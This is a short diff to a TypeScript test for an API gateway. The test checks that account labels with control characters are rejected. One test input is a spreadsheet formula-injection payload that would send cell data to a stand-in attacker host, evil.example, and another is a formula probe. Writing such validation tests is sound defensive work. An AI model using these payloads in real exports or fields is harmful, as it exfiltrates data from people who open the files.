@@ -69,7 +69,7 @@ t.test('public endpoints keep the two-field error body', async (t) => {
 });
 
 t.test('a label with a control character is refused, naming label, and nothing changes', async (t) => {
-  const gw = await startGateway(t);
+  const gw = await startGateway(t, { demo_accounts: false });
   const made = await adminCall(gw, 'POST', '/admin/accounts', { plan: 'starter', label: 'Acme' });
   const id = made.body.account.id as string;
   for (const label of ['\u0000=HYPERLINK("http://evil.example/?d="&A1,"Click")', '\t=1+1', 'a\nb', '\u007f']) {
